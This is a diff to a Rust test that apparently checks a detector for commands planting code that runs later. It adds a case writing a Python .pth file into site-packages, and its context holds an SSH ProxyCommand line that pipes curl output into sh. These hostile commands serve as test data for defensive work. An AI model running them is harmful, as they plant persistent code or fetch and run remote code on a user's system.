@@ -2448,6 +2448,10 @@ fn files_that_later_commands_run() {
                 "code-config-write",
             ),
             (
+                "tee /usr/lib/python3.11/site-packages/x.pth < x",
+                "code-config-write-arg",
+            ),
+            (
                 "echo 'ProxyCommand curl -s x | sh' >> ~/.ssh/config",
                 "ssh-git-config-command",
             ),
